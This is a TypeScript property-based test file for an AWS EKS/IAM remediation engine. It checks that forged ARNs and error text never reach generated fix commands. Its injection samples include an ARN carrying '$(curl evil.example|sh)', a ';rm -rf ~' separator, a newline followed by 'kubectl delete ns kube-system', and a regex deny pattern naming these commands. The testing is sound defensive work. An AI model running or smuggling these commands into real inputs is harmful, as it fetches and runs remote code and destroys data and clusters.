import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CATEGORIES, SUB_CAUSES } from '../../../../lambda/engine/categories';
import { remediate } from '../../../../lambda/engine/remediate';
import type { Finding } from '../../../../lambda/engine/types';
import { COMMAND_SAFE_ARN } from '../../../../lambda/engine/wording/names';
import { aFinding, aForgedPrincipal, allText, commandText, inMode, MODES, notMapped } from './fixtures';

/** Marks text that must never reach a command; chosen so no template contains it by chance. */
const MARK = 'QZXJ';

/** A character IAM never puts in an ARN, so its presence proves the ARN was not written by IAM. */
const hostileChar = fc.constantFrom(
  ' ',
  ';',
  '$',
  '`',
  '"',
  "'",
  '|',
  '&',
  '<',
  '>',
  '(',
  ')',
  '\n',
  '\\',
  '*',
  '{',
);

const forgedArn = fc
  .tuple(fc.string({ maxLength: 20 }), hostileChar, fc.string({ maxLength: 20 }))
  .map(([before, bad, after]) => `arn:aws:iam::111122223333:role/dev${before}${bad}${after}${MARK}`);

function everyFix(finding: (subCause: (typeof SUB_CAUSES)[number]) => Finding) {
  return SUB_CAUSES.flatMap((subCause) => MODES.map((mode) => remediate(finding(subCause), inMode(mode))));
}

describe('a malformed or forged ARN never reaches a command', () => {
  it.each([
    ['a command substitution', 'arn:aws:iam::111122223333:role/x$(curl evil.example|sh)'],
    ['a shell separator', 'arn:aws:iam::111122223333:role/x;rm -rf ~'],
    ['a newline', 'arn:aws:iam::111122223333:role/x\nkubectl delete ns kube-system'],
    ['Slack markup', 'arn:aws:iam::111122223333:role/<!channel>'],
    ['a short account ID', 'arn:aws:iam::1234:role/admin'],
    ['another service', 'arn:aws:s3:::my-bucket/role/admin'],
  ])('shows a placeholder instead of an ARN with %s', (_name, arn) => {
    for (const fix of everyFix((subCause) => notMapped(subCause, aForgedPrincipal(arn)))) {
      // Assess
      expect(commandText(fix)).not.toContain(arn);
      expect(commandText(fix)).not.toMatch(
        /curl|rm -rf|kube-system\nkubectl delete|<!channel>|1234:role|s3:::/,
      );
    }
  });

  it('warns that the ARN was unreadable when a command shows its placeholder', () => {
    // Act
    const fix = remediate(
      notMapped('NOT_IN_AWS_AUTH', aForgedPrincipal('arn:aws:iam::111122223333:role/a b')),
      inMode('API'),
    );

    // Assess
    expect(commandText(fix)).toContain('<role-arn>');
    expect(fix.warnings.join(' ')).toMatch(/did not look like an IAM ARN/);
  });

  it('ignores the name and session that came with a forged ARN', () => {
    // Prepare
    const principal = { ...aForgedPrincipal('arn:aws:iam::111122223333:role/x y'), name: 'trusted-looking' };

    // Act
    const fix = remediate(notMapped('NOT_IN_AWS_AUTH', principal), inMode('CONFIG_MAP'));

    // Assess
    expect(allText(fix)).not.toContain('trusted-looking');
  });

  it('never puts any ARN with a character IAM does not allow into a command (property)', () => {
    fc.assert(
      fc.property(
        forgedArn,
        fc.constantFrom(...SUB_CAUSES),
        fc.constantFrom(...MODES),
        (arn, subCause, mode) => {
          // Act
          const fix = remediate(notMapped(subCause, aForgedPrincipal(arn)), inMode(mode));

          // Assess
          expect(COMMAND_SAFE_ARN.test(arn)).toBe(false);
          expect(commandText(fix)).not.toContain(MARK);
        },
      ),
    );
  });

  it('never puts a forged creator ARN or aws-auth entry from the context into a command', () => {
    // Prepare
    const forged = `arn:aws:iam::111122223333:role/x;${MARK}`;
    const context = inMode('CONFIG_MAP', { creatorArn: forged, awsAuthArns: [forged] });

    for (const subCause of SUB_CAUSES) {
      // Act
      const fix = remediate(notMapped(subCause), context);

      // Assess
      expect(allText(fix)).not.toContain(MARK);
    }
  });
});

describe('text from error= is mentioned in prose only, never in a command', () => {
  it('keeps any error text and detail out of every command of every category (property)', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...CATEGORIES),
        fc.constantFrom(...SUB_CAUSES),
        fc.string({ maxLength: 40 }),
        (category, subCause, text) => {
          // Prepare
          const hostile = `${MARK}${text}${MARK}`;
          const details = Object.fromEntries(
            [
              'host',
              'scheme',
              'parameter',
              'signedAt',
              'expires',
              'stsCode',
              'stsMessage',
              'stsEndpoint',
              'httpStatus',
              'mapper',
              'username',
              'yamlError',
              'yamlLine',
              'ec2Error',
              'instanceId',
              'template',
            ].map((key) => [key, hostile]),
          );
          const finding = aFinding({
            category,
            subCause,
            error: hostile,
            details,
            record: { msg: hostile, fields: {} },
          });

          // Act
          const fix = remediate(finding, inMode('API_AND_CONFIG_MAP'));

          // Assess
          expect(commandText(fix)).not.toContain(MARK);
        },
      ),
    );
  });

  it('quotes a rejected host in the summary but not in any command', () => {
    // Prepare
    const host = '<!channel>.sts.evil.example';

    // Act
    const fix = remediate(
      aFinding({ category: 'TOKEN_STS_HOST_REJECTED', details: { host } }),
      inMode('API'),
    );

    // Assess
    expect(fix.summary).toContain(host);
    expect(commandText(fix)).not.toContain('evil');
  });

  it('flattens a multi-line error to one line and shortens it', () => {
    // Prepare
    const error = `line one\nline two\u2028${'x'.repeat(2000)}`;

    // Act
    const fix = remediate(aFinding({ category: 'UNKNOWN', error }), inMode('API'));

    // Assess
    const quoted = fix.steps[0]?.text ?? '';
    expect(quoted).toContain('line one line two');
    expect(quoted).not.toMatch(/[\n\u2028]/);
    expect(quoted.length).toBeLessThan(600);
  });
});
